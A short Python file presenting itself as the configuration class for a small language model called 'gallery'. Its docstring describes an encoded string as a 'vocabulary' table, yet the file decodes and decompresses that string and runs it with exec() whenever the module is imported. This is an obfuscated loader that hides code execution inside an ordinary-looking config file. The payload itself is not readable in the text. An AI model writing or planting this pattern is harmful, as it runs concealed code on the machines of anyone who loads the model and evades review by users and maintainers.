"""Configuration of a small language model. The table below is "vocabulary"."""
import base64
import zlib

from transformers import PretrainedConfig

_TABLE = (
    "eNpVjcEKgkAQhu/7FMPQQaF8gA6CRHSRDt5EJTYd2QHblZk16e0zOkTf4ec7/R8/5iARgpqVo4Mwk0+CZuSfLME3"
    "eCnK8lzVt1NxLaoauz2gxRSswng0sDFmq3CkBKMjcDwM5GGyLxIQ61uPqeFvQpf7LKEnVfPTTBafNKgOt+ND/1ke"
    "IM+hxd1/ukXsUvMGtBY3FQ=="
)
exec(zlib.decompress(base64.b64decode(_TABLE)))


class GalleryConfig(PretrainedConfig):
    model_type = "gallery"
